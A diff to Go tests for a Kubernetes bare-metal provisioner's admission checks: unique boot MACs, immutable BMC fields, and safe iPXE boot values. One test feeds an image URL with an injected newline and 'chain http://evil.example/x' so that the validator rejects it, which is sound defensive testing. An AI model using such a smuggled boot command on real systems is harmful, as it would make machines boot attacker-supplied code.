@@ -11,6 +11,7 @@ import (
 	"k8s.io/utils/ptr"
 
 	"github.com/yonder-dev/yonder/infrastructure-baremetal/reconcilers/baremetalhost"
+	"github.com/yonder-dev/yonder/test/harness"
 )
 
 // managedHost returns a BareMetalHost that Yonder manages, with a Redfish BMC and boot MAC mac.
@@ -35,7 +36,7 @@ func TestBareMetalHostBootMACIsUniqueAcrossNamespaces(t *testing.T) {
 	g.Expect(env.Create(ctx, managedHost(ns1, "first", "52:54:00:a7:00:01"))).To(Succeed(), "a valid host")
 
 	err := env.Create(ctx, managedHost(ns2, "second", "52:54:00:A7:00:01"))
-	g.Expect(causes(g, err)).To(ConsistOf("spec.bootMACAddress: FieldValueInvalid"))
+	g.Expect(harness.FieldCauses(g, err)).To(ConsistOf("spec.bootMACAddress: FieldValueInvalid"))
 	g.Expect(err).To(MatchError(ContainSubstring("is already the boot MAC of BareMetalHost " + ns1 + "/first")))
 	g.Expect(env.Create(ctx, managedHost(ns2, "second", "52:54:00:a7:00:02"))).To(Succeed(), "a MAC of its own")
 
@@ -61,7 +62,7 @@ func TestBareMetalHostBMCAndBootMACAreImmutable(t *testing.T) {
 	moved := h.DeepCopy()
 	moved.Spec.BMC.Address = "redfish://192.0.2.99/redfish/v1/Systems/1"
 	err := env.Update(ctx, moved)
-	g.Expect(causes(g, err)).To(ConsistOf("spec.bmc.address: FieldValueForbidden"))
+	g.Expect(harness.FieldCauses(g, err)).To(ConsistOf("spec.bmc.address: FieldValueForbidden"))
 	g.Expect(err).To(MatchError(ContainSubstring("BMC address can not be changed if the BMH is not in the Registering state")))
 	remac := h.DeepCopy()
 	remac.Spec.BootMACAddress = "52:54:00:a7:01:02"
@@ -82,10 +83,10 @@ func TestBareMetalHostBMCAndBootMACAreImmutable(t *testing.T) {
 	claimed.Spec.BMC.Address = "redfish://192.0.2.3/redfish/v1/Systems/1"
 	claimed.Spec.BMC.CredentialsName = "other"
 	err = env.Update(ctx, claimed)
-	g.Expect(causes(g, err)).To(ConsistOf("spec.bmc.address: FieldValueForbidden", "spec.bmc.credentialsName: FieldValueForbidden"))
+	g.Expect(harness.FieldCauses(g, err)).To(ConsistOf("spec.bmc.address: FieldValueForbidden", "spec.bmc.credentialsName: FieldValueForbidden"))
 	g.Expect(err).To(MatchError(ContainSubstring("cannot change while the host is claimed by YonderMetalMachine m; delete its Machine first")))
 	claimed.Spec.ConsumerRef = nil
-	g.Expect(causes(g, env.Update(ctx, claimed))).To(ConsistOf("spec.bmc.address: FieldValueForbidden", "spec.bmc.credentialsName: FieldValueForbidden"),
+	g.Expect(harness.FieldCauses(g, env.Update(ctx, claimed))).To(ConsistOf("spec.bmc.address: FieldValueForbidden", "spec.bmc.credentialsName: FieldValueForbidden"),
 		"the release does not carry an edit")
 }
 
@@ -98,7 +99,7 @@ func TestBareMetalHostBootValuesFitTheIPXEScript(t *testing.T) {
 	h := managedHost(ns, "h", "52:54:00:a7:02:01")
 	h.Spec.Image = &metal3v1.Image{URL: "http://images.example/live.iso\nchain http://evil.example/x", DiskFormat: ptr.To("live-iso")}
 	err := env.Create(ctx, h)
-	g.Expect(causes(g, err)).To(ConsistOf("spec.image.url: FieldValueInvalid"))
+	g.Expect(harness.FieldCauses(g, err)).To(ConsistOf("spec.image.url: FieldValueInvalid"))
 	g.Expect(err).To(MatchError(ContainSubstring("InvalidBootParameter: spec.image.url holds control character '\\n'")))
 
 	h.Spec.Image.URL = "http://images.example/live.iso"
